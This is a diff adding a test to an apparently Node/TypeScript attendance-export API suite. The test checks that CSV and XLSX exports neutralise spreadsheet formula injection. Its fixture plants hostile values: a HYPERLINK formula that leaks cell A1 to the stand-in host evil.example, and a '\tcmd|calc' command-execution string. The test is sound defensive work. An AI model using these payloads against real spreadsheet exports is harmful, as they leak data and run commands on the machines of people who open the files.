@@ -196,4 +196,38 @@ describe('attendances', () => {
     expect([...agents]).toEqual(['Alice Atendente']);
     await admin.get('/api/attendances/export?format=pdf').expect(400);
   });
+  it('neutralises formulas a chat text plants in the export, keeps numbers numbers and XLSX text cells', async () => {
+    const tenantId = admin.session.body.user.tenantId;
+    const planted = '=HYPERLINK("https://evil.example/?leak="&A1,"Clique")';
+    await insertAttendances(t, [
+      {
+        tenantId,
+        attendedAt: new Date(Date.UTC(2026, 3, 10, 15)),
+        customerName: '@SUM(1+1)',
+        customerPhone: '+55 11 99999-0000',
+        title: '-2+3',
+        summary: planted,
+        externalId: '\tcmd|calc',
+        saleValue: -12.5,
+      },
+    ]);
+    const csv = await admin.get('/api/attendances/export?format=csv&from=2026-04-10&to=2026-04-10').buffer(true).parse(binaryBody);
+    const [, line] = (csv.body as Buffer).toString('utf8').slice(1).trim().split('\n');
+    const cells = line.split(';');
+    expect(cells[3]).toBe(`"'@SUM(1+1)"`);
+    expect(cells[4]).toBe(`"'+55 11 99999-0000"`);
+    expect(cells[6]).toBe(`"'-2+3"`);
+    // The negative sale value stays a number a spreadsheet can add up.
+    expect(cells[13]).toBe('-12,5');
+    expect(cells[15]).toBe(`"'\tcmd|calc"`);
+    expect(line).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Clique"")"`);
+    expect(line).not.toMatch(/;=|;@|;\+|;-2/);
+
+    const xlsx = await admin.get('/api/attendances/export?format=xlsx&from=2026-04-10&to=2026-04-10').buffer(true).parse(binaryBody);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(xlsx.body as never);
+    const cell = workbook.getWorksheet('Atendimentos')!.getRow(2).getCell(15);
+    expect(cell.type).toBe(ExcelJS.ValueType.String);
+    expect(cell.value).toBe(planted);
+  });
 });
